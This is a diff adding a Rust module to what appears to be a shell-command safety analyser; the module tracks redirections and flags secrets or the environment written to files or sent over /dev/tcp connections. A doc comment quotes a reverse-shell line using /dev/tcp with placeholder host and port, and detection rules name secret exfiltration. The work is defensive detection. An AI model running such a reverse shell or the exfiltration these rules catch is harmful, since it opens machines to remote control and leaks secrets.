@@ -1,0 +1,151 @@
+//! Redirections: what a command then reads, and where what it writes goes.
+
+use super::freight::Freight;
+use super::place::{Place, place_of};
+use super::scope::Scope;
+use super::stream::{Flow, Stream};
+use super::value::Value;
+use super::walk::Walk;
+use super::{Action, Reach, Reversal, Verb};
+use crate::decide::syntax::{Redirect, RedirectKind, Span, Word};
+
+/// What redirections make of a command's streams.
+#[derive(Default)]
+pub(super) struct Redirected {
+    pub(super) stdin: Option<Stream>,
+    /// The file that standard output goes to, if its name is known, and whether it is appended.
+    output: Option<(Option<String>, bool)>,
+    span: Span,
+}
+
+impl Redirected {
+    /// Does standard output go into a file?
+    pub(super) fn hides_output(&self) -> bool {
+        let shown = |path: &str| matches!(path, "/dev/tty" | "/dev/stdout" | "/dev/stderr" | "/dev/console");
+        self.output.as_ref().is_some_and(|(path, _)| !path.as_deref().is_some_and(shown))
+    }
+}
+
+impl Walk<'_> {
+    pub(super) fn redirects(&mut self, redirects: &[Redirect], scope: &mut Scope) -> Redirected {
+        let mut result = Redirected::default();
+        for redirect in redirects {
+            match &redirect.kind {
+                RedirectKind::Read(word) => {
+                    let value = self.expand_whole(word, scope);
+                    result.stdin = Some(self.read_from(&value, redirect.span, scope));
+                }
+                RedirectKind::Write(word) | RedirectKind::WriteBoth(word) => {
+                    let value = self.expand_whole(word, scope);
+                    self.overwrite(&value, redirect.span, scope);
+                    if redirect.descriptor.unwrap_or(1) == 1 {
+                        result.output = Some((self.absolute(&value, scope), false));
+                    }
+                    self.note_connection(&value);
+                }
+                RedirectKind::Append(word) | RedirectKind::AppendBoth(word) | RedirectKind::ReadWrite(word) => {
+                    let value = self.expand_whole(word, scope);
+                    self.append_to(&value, redirect.span, scope);
+                    result.output = Some((self.absolute(&value, scope), true));
+                    self.note_connection(&value);
+                }
+                RedirectKind::Duplicate(word) => {
+                    let value = self.expand_whole(word, scope);
+                    if redirect.descriptor == Some(0) {
+                        result.stdin = Some(self.duplicated(&value));
+                    }
+                }
+                RedirectKind::HereDocument(word) => result.stdin = Some(self.given_text(word, "", scope)),
+                RedirectKind::HereString(word) => result.stdin = Some(self.given_text(word, "\n", scope)),
+            }
+            result.span = redirect.span;
+        }
+        result
+    }
+
+    /// The text of a here-document or here-string, with what its substitutions carry.
+    fn given_text(&mut self, word: &Word, end: &str, scope: &mut Scope) -> Stream {
+        let outer = std::mem::take(&mut self.flow);
+        let mut text = self.expand_whole(word, scope);
+        text.push_known(end);
+        let flow = std::mem::replace(&mut self.flow, outer);
+        Stream { flow, ..Stream::of(text) }
+    }
+
+    /// `0<&3`: what is read then is not known. `bash -i >& /dev/tcp/HOST/PORT 0>&1` reads commands from the network.
+    fn duplicated(&self, descriptor: &Value) -> Stream {
+        match descriptor.known() {
+            Some("-") => Stream::empty(),
+            Some("0") => Stream::inherited(),
+            Some(_) | None if self.connected => Stream::unseen(Flow::of(Freight::Network)),
+            Some(_) | None => Stream::default(),
+        }
+    }
+
+    /// `/dev/tcp/HOST/PORT` is a connection, not a file (bash(1), REDIRECTION).
+    fn note_connection(&mut self, target: &Value) {
+        self.connected |= is_connection(target.known_start());
+    }
+
+    /// Notes what a file now holds; what went to a file does not go down the pipe.
+    pub(super) fn keep(&mut self, redirected: Redirected, output: Stream, scope: &mut Scope) -> Stream {
+        let Some((path, append)) = redirected.output else {
+            return output;
+        };
+        if let Some(path) = path {
+            self.check_kept(&path, &output.flow, redirected.span);
+            let text = output.text.clone().unwrap_or_else(Value::unknown);
+            let text = match scope.written.get(&path) {
+                Some(before) if append => {
+                    let mut both = before.clone();
+                    both.append(&text);
+                    both
+                }
+                None if append => Value::unknown(),
+                Some(_) | None => text,
+            };
+            scope.made.push(path.clone());
+            scope.carry(&path, &output.flow);
+            scope.written.insert(path, text);
+        }
+        Stream { flow: output.flow, ..Stream::empty() }
+    }
+
+    /// What is written to a connection leaves the machine; an environment with secrets in a file lies there for all.
+    fn check_kept(&mut self, path: &str, flow: &Flow, span: Span) {
+        let leaves = [Freight::Secret, Freight::Private, Freight::Variables, Freight::Variable];
+        let (verb, rule, why) = if is_connection(path) && leaves.iter().any(|freight| flow.has(*freight)) {
+            (Verb::Send, "secrets.connection.send", "Sends a secret or a private file over the network.")
+        } else if flow.has(Freight::Variables) && self.environment_tells() && !self.is_sink(path) {
+            (Verb::ReadSecret, "secrets.environment.store", "Writes the environment, with its secrets, into a file.")
+        } else {
+            return;
+        };
+        self.push(Action {
+            verb,
+            resource: "secret".to_owned(),
+            names: vec![path.to_owned()],
+            reach: Reach::Account,
+            reversal: Reversal::Never,
+            rule: rule.to_owned(),
+            why: why.to_owned(),
+            instead: None,
+            span: self.anchor.unwrap_or(span),
+            via: self.via.clone(),
+        });
+    }
+
+    fn is_sink(&self, path: &str) -> bool {
+        place_of(path, self.setting) == Place::Sink
+    }
+
+    /// Does the environment hold a variable whose name tells a secret?
+    fn environment_tells(&self) -> bool {
+        self.setting.environment.keys().any(|name| super::keyring::tells_secret(name))
+    }
+}
+
+/// Is this a name under which bash opens a connection?
+pub(super) fn is_connection(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
